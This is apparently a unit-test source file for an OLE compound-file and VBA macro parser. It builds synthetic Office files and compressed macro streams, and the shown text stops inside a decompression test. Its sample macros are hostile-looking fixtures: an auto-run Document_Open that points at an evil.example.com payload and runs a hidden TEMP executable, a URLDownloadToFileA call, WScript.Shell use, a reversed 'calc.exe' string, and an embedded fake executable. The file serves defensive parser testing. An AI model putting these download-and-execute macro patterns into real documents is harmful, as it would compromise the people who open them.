/*
 * test_ole.c - unit tests for parsers/ole.c (compound file reader and the
 * "ole" parser) and parsers/vba.c (MS-OVBA decompression, dir stream,
 * macro extraction and keyword scan).
 *
 * Every input is made at run time: a small compound file writer (ow_*,
 * version 3 and 4, mini stream and regular sectors, balanced directory
 * trees), a VBA project builder (dir stream with every record kind of
 * [MS-OVBA] 2.3.4.2, module streams with p-code in front of the source)
 * and an [MS-OVBA] 2.4.1 compressor with two modes, literal-only (plus
 * raw chunks) and greedy LZ (copy tokens).  The decompressor is also
 * checked against the three examples of [MS-OVBA] 3.2.  Malformed files
 * are the writer's output patched: FAT and DIFAT loops, sectors outside
 * the file, directory loops, huge sizes, truncations and random
 * mutations.  The two OLE files of Debian's clamav-testfiles are parsed
 * and checked against what file(1) reports about them.
 *
 * test_ooxml.c includes this file with TEST_OLE_NO_MAIN to reuse the
 * writers.  `test_ole --write-seeds DIR` writes the fuzz seeds of
 * fuzz_ole and fuzz_vba into DIR/ole and DIR/vba (tests/fuzz/make-seeds-office.sh).
 *
 * SPDX-License-Identifier: MIT
 */
#include "tap.h"
#include "parser.h"
#include "ole.h"
#include "vba.h"
#include "buf.h"
#include "hash.h"

#include "utf8.h"

#include <ctype.h>
#include <errno.h>
#include <json-c/json.h>
#include <stdlib.h>
#include <sys/stat.h>

#define CLAM_DIR "/usr/share/clamav-testfiles"

/* ------------------------------------------------------------------ */
/* small helpers                                                       */

static void
put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
}

static void
put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)v);
	put16(p + 2, (uint16_t)(v >> 16));
}

static void
put64(uint8_t *p, uint64_t v)
{
	put32(p, (uint32_t)v);
	put32(p + 4, (uint32_t)(v >> 32));
}

static void
b_u16(struct pn_buf *b, uint16_t v)
{
	uint8_t x[2];
	put16(x, v);
	pn_buf_append(b, x, 2);
}

static void
b_u32(struct pn_buf *b, uint32_t v)
{
	uint8_t x[4];
	put32(x, v);
	pn_buf_append(b, x, 4);
}

static void
b_utf16(struct pn_buf *b, const char *s)
{
	for (; *s; s++)
		b_u16(b, (uint8_t)*s);
}

static uint64_t rng_state = 0x243F6A8885A308D3ULL;

static uint64_t
rng(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545F4914F6CDD1DULL;
}

static uint8_t *
read_file(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	uint8_t *d;
	long n;

	*len = 0;
	if (f == NULL)
		return NULL;
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	d = pn_xmalloc((size_t)n + 1);
	*len = fread(d, 1, (size_t)n, f);
	fclose(f);
	return d;
}

static int
write_file(const char *path, const void *d, size_t n)
{
	FILE *f = fopen(path, "wb");
	int ok;

	if (f == NULL)
		return -1;
	ok = fwrite(d, 1, n, f) == n;
	return fclose(f) == 0 && ok ? 0 : -1;
}

/* ------------------------------------------------------------------ */
/* [MS-OVBA] 2.4.1 compressor (test side)                              */

static unsigned
copy_bits(size_t diff)
{
	unsigned bits = 4;
	while (bits < 12 && ((size_t)1 << bits) < diff)
		bits++;
	return bits;
}

/*
 * Compress n bytes into a new buffer: lz 0 emits literal tokens only
 * (full 4096-byte chunks become raw chunks, as 2.4.1.3.7 does when a
 * chunk does not shrink), lz 1 greedy longest-nearest matches as in
 * 2.4.1.3.19.4.  Returns NULL if a partial last chunk cannot be encoded.
 */
static uint8_t *
ovba_compress(const uint8_t *in, size_t n, int lz, size_t *outlen)
{
	uint8_t *out = pn_xmalloc(n + n / 8 + 64 * (n / 4096 + 1) + 16);
	size_t o = 0, pos = 0;

	out[o++] = 0x01;
	while (pos < n) {
		size_t clen = PN_MIN((size_t)4096, n - pos), hdr = o, start, dpos = 0;
		const uint8_t *c = in + pos;
		o += 2;
		start = o;
		while (dpos < clen) {
			size_t flagpos = o++;
			uint8_t flags = 0;
			int bit;
			for (bit = 0; bit < 8 && dpos < clen; bit++) {
				size_t best = 0, boff = 0, off;
				unsigned bits = copy_bits(dpos);
				size_t maxlen = (0xFFFFu >> bits) + 3;
				if (lz) {
					for (off = 1; off <= dpos; off++) {
						size_t len = 0;
						while (dpos + len < clen && len < maxlen && c[dpos + len] == c[dpos + len - off])
							len++;
						if (len > best) {
							best = len;
							boff = off;
						}
					}
				}
				if (best >= 3) {
					uint16_t tok = (uint16_t)(((boff - 1) << (16 - bits)) | (best - 3));
					put16(out + o, tok);
					o += 2;
					flags |= (uint8_t)(1u << bit);
					dpos += best;
				} else
					out[o++] = c[dpos++];
			}
			out[flagpos] = flags;
		}
		if (o - start > 4096) {
			if (clen != 4096) {
				free(out);
				return NULL;
			}
			o = start;
			memcpy(out + o, c, 4096);
			o += 4096;
			put16(out + hdr, 0x3FFF);       /* raw: size 4098, signature 3, flag 0 */
		} else
			put16(out + hdr, (uint16_t)(0xB000 | (o - start + 2 - 3)));
		pos += clen;
	}
	*outlen = o;
	return out;
}

/* ------------------------------------------------------------------ */
/* compound file writer                                                */

#define OW_MAX      96
#define OW_FREE     0xFFFFFFFFu
#define OW_END      0xFFFFFFFEu
#define OW_FATSECT  0xFFFFFFFDu
#define OW_NONE     0xFFFFFFFFu

struct ow_ent {
	char name[40];
	int type;                    /* 1 storage, 2 stream, 5 root */
	int parent;
	uint8_t *data;               /* owned copy */
	size_t len;
	uint8_t clsid[16];
	uint32_t left, right, child;
	uint32_t start;
	int mini;
};

struct ow {
	unsigned sshift;             /* 9 or 12 */
	struct ow_ent e[OW_MAX];
	int n;
	/* after ow_build() */
	uint8_t *buf;
	size_t len;
	size_t ssize;
	uint32_t nfat, ndir, dir0, nminifat, minifat0, nmini, mini0;
};

static void
ow_init(struct ow *w, unsigned sshift)
{
	memset(w, 0, sizeof(*w));
	w->sshift = sshift;
	pn_strlcpy(w->e[0].name, "Root Entry", sizeof(w->e[0].name));
	w->e[0].type = 5;
	w->e[0].parent = -1;
	w->n = 1;
}

static void
ow_free(struct ow *w)
{
	int i;

	for (i = 0; i < w->n; i++)
		free(w->e[i].data);
	free(w->buf);
	memset(w, 0, sizeof(*w));
}

/* Child of parent named name (creating a storage when type is 1). */
static int
ow_child(struct ow *w, int parent, const char *name, size_t nlen, int type)
{
	int i;

	for (i = 1; i < w->n; i++)
		if (w->e[i].parent == parent && strlen(w->e[i].name) == nlen &&
		    strncmp(w->e[i].name, name, nlen) == 0)
			return i;
	if (w->n >= OW_MAX)
		abort();
	i = w->n++;
	memset(&w->e[i], 0, sizeof(w->e[i]));
	memcpy(w->e[i].name, name, PN_MIN(nlen, sizeof(w->e[i].name) - 1));
	w->e[i].type = type;
	w->e[i].parent = parent;
	return i;
}

/* Add a stream at path ("Macros/VBA/dir"); storages are made on the way. */
static int
ow_add(struct ow *w, const char *path, const void *data, size_t len)
{
	int parent = 0, id;
	const char *s = path, *slash;

	while ((slash = strchr(s, '/')) != NULL) {
		parent = ow_child(w, parent, s, (size_t)(slash - s), 1);
		s = slash + 1;
	}
	id = ow_child(w, parent, s, strlen(s), 2);
	free(w->e[id].data);
	w->e[id].data = pn_xmalloc(len + 1);
	if (len)
		memcpy(w->e[id].data, data, len);
	w->e[id].len = len;
	return id;
}

static int
ow_storage(struct ow *w, const char *path)
{
	int parent = 0;
	const char *s = path, *slash;

	for (;;) {
		slash = strchr(s, '/');
		parent = ow_child(w, parent, s, slash ? (size_t)(slash - s) : strlen(s), 1);
		if (slash == NULL)
			return parent;
		s = slash + 1;
	}
}

/* "00020906-0000-0000-c000-000000000046" into the stored (mixed-endian) form. */
static void
clsid_parse(const char *s, uint8_t c[16])
{
	static const int widths[11] = { 8, 4, 4, 2, 2, 2, 2, 2, 2, 2, 2 };
	uint32_t v[11];
	int i, k;

	for (i = 0; i < 11; i++) {
		v[i] = 0;
		if (*s == '-')
			s++;
		for (k = 0; k < widths[i]; k++, s++)
			v[i] = v[i] * 16 + (uint32_t)(*s <= '9' ? *s - '0' : (*s | 0x20) - 'a' + 10);
	}
	put32(c, v[0]);
	put16(c + 4, (uint16_t)v[1]);
	put16(c + 6, (uint16_t)v[2]);
	for (i = 0; i < 8; i++)
		c[8 + i] = (uint8_t)v[3 + i];
}

/* [MS-CFB] 2.6.4 order: shorter names first, then upper-cased compare. */
static int
ow_cmp(const struct ow_ent *a, const struct ow_ent *b)
{
	size_t la = strlen(a->name), lb = strlen(b->name), i;

	if (la != lb)
		return la < lb ? -1 : 1;
	for (i = 0; i < la; i++) {
		int x = toupper((unsigned char)a->name[i]), y = toupper((unsigned char)b->name[i]);
		if (x != y)
			return x - y;
	}
	return 0;
}

static uint32_t
ow_tree(struct ow *w, int *ids, int lo, int hi)
{
	int mid;

	if (lo > hi)
		return OW_NONE;
	mid = (lo + hi) / 2;
	w->e[ids[mid]].left = ow_tree(w, ids, lo, mid - 1);
	w->e[ids[mid]].right = ow_tree(w, ids, mid + 1, hi);
	return (uint32_t)ids[mid];
}

static void
ow_trees(struct ow *w)
{
	int i, j, k, ids[OW_MAX], n;

	for (i = 0; i < w->n; i++)
		w->e[i].left = w->e[i].right = w->e[i].child = OW_NONE;
	for (i = 0; i < w->n; i++) {
		if (w->e[i].type == 2)
			continue;
		for (n = 0, j = 1; j < w->n; j++)
			if (w->e[j].parent == i)
				ids[n++] = j;
		for (j = 1; j < n; j++)         /* insertion sort */
			for (k = j; k > 0 && ow_cmp(&w->e[ids[k - 1]], &w->e[ids[k]]) > 0; k--) {
				int t = ids[k];
				ids[k] = ids[k - 1];
				ids[k - 1] = t;
			}
		w->e[i].child = ow_tree(w, ids, 0, n - 1);
	}
}

static size_t
ow_off(const struct ow *w, uint32_t s)
{
	return ((size_t)s + 1) * w->ssize;
}

/* Patch helpers for malformed variants. */
static void
ow_fat_set(struct ow *w, uint32_t s, uint32_t v)
{
	size_t per = w->ssize / 4;
	put32(w->buf + ow_off(w, (uint32_t)(s / per)) + (s % per) * 4, v);
}

static uint8_t *
ow_dirent(struct ow *w, int id)
{
	return w->buf + ow_off(w, w->dir0) + (size_t)id * 128;
}

static void
ow_build(struct ow *w)
{
	size_t ssize = (size_t)1 << w->sshift, per = ssize / 4;
	uint32_t nminisec = 0, nbig = 0, ndirent, T, F, s, i;
	uint32_t *fat;
	size_t total, mini_bytes;
	uint8_t *minifat_tab;
	int id;

	w->ssize = ssize;
	ow_trees(w);
	for (id = 1; id < w->n; id++) {
		struct ow_ent *e = &w->e[id];
		if (e->type != 2)
			continue;
		e->mini = e->len < 4096;
		if (e->mini && e->len > 0) {
			e->start = nminisec;
			nminisec += (uint32_t)((e->len + 63) / 64);
		} else if (!e->mini)
			nbig += (uint32_t)((e->len + ssize - 1) / ssize);
		else
			e->start = OW_END;
	}
	mini_bytes = (size_t)nminisec * 64;
	w->nmini = (uint32_t)((mini_bytes + ssize - 1) / ssize);
	w->nminifat = (uint32_t)((nminisec + per - 1) / per);
	ndirent = (uint32_t)w->n;
	w->ndir = (uint32_t)((ndirent * 128 + ssize - 1) / ssize);
	T = w->ndir + w->nminifat + w->nmini + nbig;
	for (F = 1; (T + F) > F * per; F++)
		;
	if (F > 109)
		abort();
	w->nfat = F;
	w->dir0 = F;
	w->minifat0 = F + w->ndir;
	w->mini0 = w->minifat0 + w->nminifat;
	total = ssize * (1 + F + T);
	w->buf = pn_xcalloc(total, 1);
	w->len = total;
	fat = pn_xmalloc(F * per * sizeof(*fat));
	for (i = 0; i < F * per; i++)
		fat[i] = OW_FREE;
	for (i = 0; i < F; i++)
		fat[i] = OW_FATSECT;
#define CHAIN(first, count) do { uint32_t f_ = (first), c_ = (count), k_; \
	for (k_ = 0; k_ < c_; k_++) fat[f_ + k_] = k_ + 1 < c_ ? f_ + k_ + 1 : OW_END; } while (0)
	CHAIN(w->dir0, w->ndir);
	CHAIN(w->minifat0, w->nminifat);
	CHAIN(w->mini0, w->nmini);
	s = w->mini0 + w->nmini;
	for (id = 1; id < w->n; id++) {
		struct ow_ent *e = &w->e[id];
		uint32_t cnt;
		if (e->type != 2 || e->mini)
			continue;
		cnt = (uint32_t)((e->len + ssize - 1) / ssize);
		e->start = cnt ? s : OW_END;
		CHAIN(s, cnt);
		memcpy(w->buf + ow_off(w, s), e->data, e->len);
		s += cnt;
	}
#undef CHAIN
	for (i = 0; i < F; i++)
		for (s = 0; s < per; s++)
			put32(w->buf + ow_off(w, i) + s * 4, fat[i * per + s]);
	free(fat);
	/* mini FAT and mini stream */
	minifat_tab = w->buf + ow_off(w, w->minifat0);
	for (i = 0; i < w->nminifat * per; i++)
		put32(minifat_tab + i * 4, OW_FREE);
	for (id = 1; id < w->n; id++) {
		struct ow_ent *e = &w->e[id];
		uint32_t cnt, k;
		if (e->type != 2 || !e->mini || e->len == 0)
			continue;
		cnt = (uint32_t)((e->len + 63) / 64);
		for (k = 0; k < cnt; k++)
			put32(minifat_tab + (e->start + k) * 4, k + 1 < cnt ? e->start + k + 1 : OW_END);
		memcpy(w->buf + ow_off(w, w->mini0) + (size_t)e->start * 64, e->data, e->len);
	}
	w->e[0].start = w->nmini ? w->mini0 : OW_END;
	/* header */
	memcpy(w->buf, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
	put16(w->buf + 24, 0x3E);
	put16(w->buf + 26, w->sshift == 12 ? 4 : 3);
	put16(w->buf + 28, 0xFFFE);
	put16(w->buf + 30, (uint16_t)w->sshift);
	put16(w->buf + 32, 6);
	put32(w->buf + 40, w->sshift == 12 ? w->ndir : 0);
	put32(w->buf + 44, F);
	put32(w->buf + 48, w->dir0);
	put32(w->buf + 56, 4096);
	put32(w->buf + 60, w->nminifat ? w->minifat0 : OW_END);
	put32(w->buf + 64, w->nminifat);
	put32(w->buf + 68, OW_END);
	for (i = 0; i < 109; i++)
		put32(w->buf + 76 + i * 4, i < F ? i : OW_FREE);
	/* directory */
	for (i = 0; i < w->ndir * ssize / 128; i++) {
		uint8_t *d = ow_dirent(w, (int)i);
		put32(d + 68, OW_NONE);
		put32(d + 72, OW_NONE);
		put32(d + 76, OW_NONE);
	}
	for (id = 0; id < w->n; id++) {
		struct ow_ent *e = &w->e[id];
		uint8_t *d = ow_dirent(w, id);
		size_t k, nl = strlen(e->name);
		for (k = 0; k < nl; k++)
			put16(d + 2 * k, (uint8_t)e->name[k]);
		put16(d + 64, (uint16_t)((nl + 1) * 2));
		d[66] = (uint8_t)e->type;
		d[67] = 1;
		put32(d + 68, e->left);
		put32(d + 72, e->right);
		put32(d + 76, e->child);
		memcpy(d + 80, e->clsid, 16);
		put32(d + 116, id == 0 ? e->start : e->type == 2 ? e->start : 0);
		put64(d + 120, id == 0 ? mini_bytes : e->type == 2 ? e->len : 0);
	}
}

/* ------------------------------------------------------------------ */
/* VBA project builder                                                 */

struct vmod {
	const char *name;
	const char *src;
	int kind;        /* 1 procedural, 2 document */
	int lz;          /* compress with copy tokens */
	uint32_t pcode;  /* bytes of fake p-code before the source */
};

static void
rec(struct pn_buf *b, uint16_t id, const void *d, uint32_t n)
{
	b_u16(b, id);
	b_u32(b, n);
	if (n)
		pn_buf_append(b, d, n);
}

static void
rec_str(struct pn_buf *b, uint16_t id, const char *s)
{
	rec(b, id, s, (uint32_t)strlen(s));
}

static void
rec_u32(struct pn_buf *b, uint16_t id, uint32_t v)
{
	uint8_t x[4];
	put32(x, v);
	rec(b, id, x, 4);
}

static void
rec_u16(struct pn_buf *b, uint16_t id, uint16_t v)
{
	uint8_t x[2];
	put16(x, v);
	rec(b, id, x, 2);
}

static void
rec_utf16(struct pn_buf *b, uint16_t id, const char *s)
{
	b_u16(b, id);
	b_u32(b, (uint32_t)strlen(s) * 2);
	b_utf16(b, s);
}

/* The decompressed dir stream for these modules ([MS-OVBA] 2.3.4.2). */
static void
vba_dir(struct pn_buf *b, const struct vmod *m, int n)
{
	int i;

	rec_u32(b, 0x0001, 1);                  /* PROJECTSYSKIND: win32 */
	rec_u32(b, 0x004A, 2);                  /* PROJECTCOMPATVERSION */
	rec_u32(b, 0x0002, 0x409);              /* PROJECTLCID */
	rec_u32(b, 0x0014, 0x409);              /* PROJECTLCIDINVOKE */
	rec_u16(b, 0x0003, 1252);               /* PROJECTCODEPAGE */
	rec_str(b, 0x0004, "VBAProject");       /* PROJECTNAME */
	rec_str(b, 0x0005, "doc");              /* PROJECTDOCSTRING */
	rec_utf16(b, 0x0040, "doc");
	rec_str(b, 0x0006, "");                 /* PROJECTHELPFILEPATH */
	rec_str(b, 0x003D, "");
	rec_u32(b, 0x0007, 0);                  /* PROJECTHELPCONTEXT */
	rec_u32(b, 0x0008, 0);                  /* PROJECTLIBFLAGS */
	b_u16(b, 0x0009);                       /* PROJECTVERSION: the size field says 4... */
	b_u32(b, 4);
	b_u32(b, 0x5BD7FE53);                   /* ...but 6 bytes follow */
	b_u16(b, 6);
	rec_str(b, 0x000C, "A = 1");            /* PROJECTCONSTANTS */
	rec_utf16(b, 0x003C, "A = 1");
	/* one registered reference and one control reference */
	rec_str(b, 0x0016, "stdole");
	rec_utf16(b, 0x003E, "stdole");
	{
		const char *libid = "*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\system32\\stdole2.tlb#OLE Automation";
		b_u16(b, 0x000D);
		b_u32(b, (uint32_t)(4 + strlen(libid) + 6));
		b_u32(b, (uint32_t)strlen(libid));
		pn_buf_append(b, libid, strlen(libid));
		b_u32(b, 0);
		b_u16(b, 0);
	}
	rec_str(b, 0x0016, "MSForms");
	rec_utf16(b, 0x003E, "MSForms");
	rec_str(b, 0x0033, "*\\G{0D452EE1-E08F-101A-852E-02608C4D0BB4}#2.0#0#FM20.DLL#MSForms");
	{
		uint8_t tw[30] = { 0 };
		rec(b, 0x002F, tw, sizeof(tw));         /* REFERENCECONTROL twiddled part */
		rec(b, 0x0030, tw, sizeof(tw));         /* its extended part */
	}
	rec_u16(b, 0x000F, (uint16_t)n);        /* PROJECTMODULES */
	rec_u16(b, 0x0013, 0xFFFF);             /* PROJECTCOOKIE */
	for (i = 0; i < n; i++) {
		rec_str(b, 0x0019, m[i].name);
		rec_utf16(b, 0x0047, m[i].name);
		rec_str(b, 0x001A, m[i].name);
		rec_utf16(b, 0x0032, m[i].name);
		rec_str(b, 0x001C, "");
		rec_utf16(b, 0x0048, "");
		rec_u32(b, 0x0031, m[i].pcode);
		rec_u32(b, 0x001E, 0);
		rec_u16(b, 0x002C, 0xFFFF);
		rec(b, m[i].kind == 1 ? 0x0021 : 0x0022, NULL, 0);
		if (i == 0)
			rec(b, 0x0025, NULL, 0);        /* MODULEREADONLY */
		rec(b, 0x002B, NULL, 0);
	}
	rec(b, 0x0010, NULL, 0);
}

/* Add a VBA project under storage prefix ("Macros/VBA", "VBA"). */
static void
vba_project(struct ow *w, const char *prefix, const struct vmod *m, int n)
{
	struct pn_buf dir = PN_BUF_INIT;
	char path[256];
	uint8_t *c;
	size_t clen;
	int i;

	vba_dir(&dir, m, n);
	c = ovba_compress((const uint8_t *)dir.p, dir.len, 1, &clen);
	snprintf(path, sizeof(path), "%s/dir", prefix);
	ow_add(w, path, c, clen);
	free(c);
	pn_buf_release(&dir);
	snprintf(path, sizeof(path), "%s/_VBA_PROJECT", prefix);
	ow_add(w, path, "\xCC\x61\xFF\xFF\x00\x00\x00", 7);
	for (i = 0; i < n; i++) {
		struct pn_buf s = PN_BUF_INIT;
		uint32_t k;
		c = ovba_compress((const uint8_t *)m[i].src, strlen(m[i].src), m[i].lz, &clen);
		if (c == NULL)
			abort();
		for (k = 0; k < m[i].pcode; k++)
			pn_buf_putc(&s, (char)(k * 7 + 1));
		pn_buf_append(&s, c, clen);
		snprintf(path, sizeof(path), "%s/%s", prefix, m[i].name);
		ow_add(w, path, s.p, s.len);
		pn_buf_release(&s);
		free(c);
	}
}

/* ------------------------------------------------------------------ */
/* property sets and Ole10Native                                       */

#define FT_2020 ((uint64_t)(1577934245LL + 11644473600LL) * 10000000ULL) /* 2020-01-02 03:04:05 */

static void
summary_stream(struct pn_buf *b)
{
	static const uint8_t fmtid[16] = { 0xE0, 0x85, 0x9F, 0xF2, 0xF9, 0x4F, 0x68, 0x10,
	    0xAB, 0x91, 0x08, 0x00, 0x2B, 0x27, 0xB3, 0xD9 };
	struct pn_buf v = PN_BUF_INIT;
	uint32_t offs[8], pids[8] = { 1, 2, 4, 18, 12, 14, 10, 13 };
	int i;
	uint8_t z[16] = { 0 };

	for (i = 0; i < 8; i++) {
		offs[i] = (uint32_t)(8 + 8 * 8 + v.len);
		switch (pids[i]) {
		case 1: b_u16(&v, 2); b_u16(&v, 0); b_u16(&v, 1252); b_u16(&v, 0); break;
		case 2: b_u16(&v, 0x1E); b_u16(&v, 0); b_u32(&v, 12); pn_buf_append(&v, "Caf\xe9 report\0", 12); break;
		case 4: b_u16(&v, 0x1E); b_u16(&v, 0); b_u32(&v, 8); pn_buf_append(&v, "mallory\0", 8); break;
		case 18: b_u16(&v, 0x1F); b_u16(&v, 0); b_u32(&v, 9); b_utf16(&v, "Word 2.0"); b_u16(&v, 0); b_u16(&v, 0); break;
		case 12: b_u16(&v, 0x40); b_u16(&v, 0); b_u32(&v, (uint32_t)FT_2020); b_u32(&v, (uint32_t)(FT_2020 >> 32)); break;
		case 14: b_u16(&v, 3); b_u16(&v, 0); b_u32(&v, 7); break;
		case 10: b_u16(&v, 0x40); b_u16(&v, 0); b_u32(&v, (uint32_t)(600ULL * 10000000ULL)); b_u32(&v, (uint32_t)((600ULL * 10000000ULL) >> 32)); break;
		case 13: b_u16(&v, 0x40); b_u16(&v, 0); b_u32(&v, 0); b_u32(&v, 0); break;   /* unset date */
		}
	}
	b_u16(b, 0xFFFE);
	b_u16(b, 0);
	b_u32(b, 0x00020006);
	pn_buf_append(b, z, 16);
	b_u32(b, 1);
	pn_buf_append(b, fmtid, 16);
	b_u32(b, 48);
	b_u32(b, (uint32_t)(8 + 64 + v.len));
	b_u32(b, 8);
	for (i = 0; i < 8; i++) {
		b_u32(b, pids[i]);
		b_u32(b, offs[i]);
	}
	pn_buf_append(b, v.p, v.len);
	pn_buf_release(&v);
}

static void
ole10native_stream(struct pn_buf *b, const char *label, const void *data, size_t n)
{
	struct pn_buf v = PN_BUF_INIT;
	const char *tmp = "C:\\Temp\\x.exe";

	b_u16(&v, 2);
	pn_buf_append(&v, label, strlen(label) + 1);
	pn_buf_append(&v, "C:\\src\\x.exe", 13);
	b_u16(&v, 0);
	b_u16(&v, 3);
	b_u32(&v, (uint32_t)strlen(tmp) + 1);
	pn_buf_append(&v, tmp, strlen(tmp) + 1);
	b_u32(&v, (uint32_t)n);
	pn_buf_append(&v, data, n);
	b_u32(b, (uint32_t)v.len);
	pn_buf_append(b, v.p, v.len);
	pn_buf_release(&v);
}

/* ------------------------------------------------------------------ */
/* running the parser and looking at JSON                              */

struct res {
	struct json_object *attrs, *tags, *notes, *edges;
	int rc;
};

static void
res_free(struct res *r)
{
	json_object_put(r->attrs);
	json_object_put(r->tags);
	json_object_put(r->notes);
	json_object_put(r->edges);
	memset(r, 0, sizeof(*r));
}

/* Run a parser on an exactly-sized copy (ASan sees overreads). */
static int
run_parser(const struct pn_parser *ps, const uint8_t *d, size_t n, struct res *r)
{
	struct pn_parse p;
	struct pn_ident id;
	uint8_t *copy = pn_xmalloc(n ? n : 1);

	memcpy(copy, d, n);
	memset(&p, 0, sizeof(p));
	memset(&id, 0, sizeof(id));
	memset(r, 0, sizeof(*r));
	p.data = copy;
	p.size = n;
	p.ident = &id;
	p.attrs = r->attrs = json_object_new_object();
	p.tags = r->tags = json_object_new_array();
	p.notes = r->notes = json_object_new_array();
	p.edges = r->edges = json_object_new_array();
	r->rc = ps->bid(copy, n, &id) > 0 ? ps->parse(&p) : -100;
	free(copy);
	return r->rc;
}

/* Value at a dotted path; numbers index arrays ("office_info.ole.macros.0.vba_code"). */
static struct json_object *
jget(struct json_object *o, const char *path)
{
	char buf[256], *s, *save = NULL;

	pn_strlcpy(buf, path, sizeof(buf));
	for (s = strtok_r(buf, ".", &save); s && o; s = strtok_r(NULL, ".", &save)) {
		if (json_object_is_type(o, json_type_array)) {
			int64_t i;
			if (pn_parse_i64(s, 0, 1 << 20, &i) != PN_OK)
				return NULL;
			o = json_object_array_get_idx(o, (size_t)i);
		} else if (!json_object_object_get_ex(o, s, &o))
			return NULL;
	}
	return o;
}

static const char *
jstr(struct json_object *o, const char *path)
{
	struct json_object *v = jget(o, path);
	return v ? json_object_get_string(v) : NULL;
}

static int64_t
jint(struct json_object *o, const char *path)
{
	struct json_object *v = jget(o, path);
	return v ? json_object_get_int64(v) : -1;
}

static int
jhas(struct json_object *arr, const char *s)
{
	size_t i;

	if (arr == NULL || !json_object_is_type(arr, json_type_array))
		return 0;
	for (i = 0; i < json_object_array_length(arr); i++) {
		struct json_object *v = json_object_array_get_idx(arr, i), *id;
		if (json_object_is_type(v, json_type_object) && json_object_object_get_ex(v, "id", &id))
			v = id;
		if (strcmp(json_object_get_string(v), s) == 0)
			return 1;
	}
	return 0;
}

static int
notes_match(struct res *r, const char *needle)
{
	size_t i;

	for (i = 0; i < json_object_array_length(r->notes); i++)
		if (strstr(json_object_get_string(json_object_array_get_idx(r->notes, i)), needle))
			return 1;
	return 0;
}

/* The whole result must serialize to valid UTF-8 JSON. */
static int
res_valid(struct res *r)
{
	const char *s = json_object_to_json_string_ext(r->attrs, JSON_C_TO_STRING_PLAIN);
	const unsigned char *u = (const unsigned char *)s;
	size_t n = strlen(s), i = 0;

	while (i < n) {
		size_t k = pn_utf8_seq(u + i, n - i);
		if (k == 0)
			return 0;
		i += k;
	}
	return r->rc == PN_OK || r->rc == PN_EFORMAT || r->rc == PN_ELIMIT;
}

/* ------------------------------------------------------------------ */
/* sample documents                                                    */

static const char *src_doc =
    "Attribute VB_Name = \"ThisDocument\"\r\n"
    "Attribute VB_Base = \"1Normal.ThisDocument\"\r\n"
    "Private Sub Document_Open()\r\n"
    "    Dim u As String\r\n"
    "    u = \"http://evil.example.com/payload.exe\"\r\n"
    "    Shell Environ(\"TEMP\") & \"\\x.exe\", vbHide\r\n"
    "End Sub\r\n";

static const char *src_mod =
    "Attribute VB_Name = \"Module1\"\r\n"
    "Sub Helper()\r\n"
    "    Set o = CreateObject(\"WScript.Shell\")\r\n"
    "    s = StrReverse(\"exe.clac\") & Chr(34)\r\n"
    "    URLDownloadToFileA 0, \"https://dl.example.org/a?b=1\", \"c:\\a.dat\", 0, 0\r\n"
    "    h = \"10.20.30.40\"\r\n"
    "End Sub\r\n"
    "Sub Helper2()\r\n"
    "    ' the same words again, the same words again, the same words again\r\n"
    "End Sub\r\n";

/* A Word-like document with a VBA project, properties and an object. */
static void
sample_doc(struct ow *w, unsigned sshift)
{
	static const struct vmod mods[] = {
		{ "ThisDocument", NULL, 2, 1, 0 },
		{ "Module1", NULL, 1, 0, 37 },
	};
	struct vmod m[2];
	struct pn_buf b = PN_BUF_INIT;
	uint8_t big[9000];
	size_t i;

	memcpy(m, mods, sizeof(m));
	m[0].src = src_doc;
	m[1].src = src_mod;
	ow_init(w, sshift);
	clsid_parse("00020906-0000-0000-c000-000000000046", w->e[0].clsid);
	for (i = 0; i < sizeof(big); i++)
		big[i] = (uint8_t)(i * 31 + i / 512);
	ow_add(w, "WordDocument", big, sizeof(big));
	ow_add(w, "1Table", big, 700);
	summary_stream(&b);
	ow_add(w, "\005SummaryInformation", b.p, b.len);
	pn_buf_release(&b);
	vba_project(w, "Macros/VBA", m, 2);
	ow_add(w, "Macros/PROJECT", "ID=\"{1}\"\r\nDocument=ThisDocument/&H00000000\r\nModule=Module1\r\n", 61);
	ole10native_stream(&b, "report.exe", "MZ\x90\x00rest of a program", 22);
	ow_add(w, "ObjectPool/_1234/\001Ole10Native", b.p, b.len);
	pn_buf_release(&b);
	clsid_parse("0003000c-0000-0000-c000-000000000046", w->e[ow_storage(w, "ObjectPool/_1234")].clsid);
	ow_build(w);
}

/* Write one fuzz seed to DIR/SUB/NAME. */
static int
seed(const char *dir, const char *sub, const char *name, const void *d, size_t n)
{
	char path[1024];

	snprintf(path, sizeof(path), "%s/%s", dir, sub);
	mkdir(path, 0755);
	snprintf(path, sizeof(path), "%s/%s/%s", dir, sub, name);
	if (write_file(path, d, n) != 0) {
		fprintf(stderr, "cannot write %s: %s\n", path, strerror(errno));
		return 1;
	}
	return 0;
}

#ifndef TEST_OLE_NO_MAIN

/* ------------------------------------------------------------------ */
/* tests: decompression                                                */

static void
test_decompress_vectors(void)
{
	/* [MS-OVBA] 3.2.1 - 3.2.3 */
	static const uint8_t v1[] = { 0x01, 0x19, 0xB0, 0x00, 0x61, 0x62, 0x63, 0x64, 0x65, 0x66, 0x67,
	    0x68, 0x00, 0x69, 0x6A, 0x6B, 0x6C, 0x6D, 0x6E, 0x6F, 0x70, 0x00, 0x71, 0x72, 0x73, 0x74,
	    0x75, 0x76, 0x2E };
	static const uint8_t v2[] = { 0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64,
	    0x65, 0x82, 0x66, 0x00, 0x70, 0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B,
	    0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73,
	    0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7A, 0x00, 0x3C };
	static const uint8_t v3[] = { 0x01, 0x03, 0xB0, 0x02, 0x61, 0x45, 0x00 };
	static const char *d1 = "abcdefghijklmnopqrstuv.";
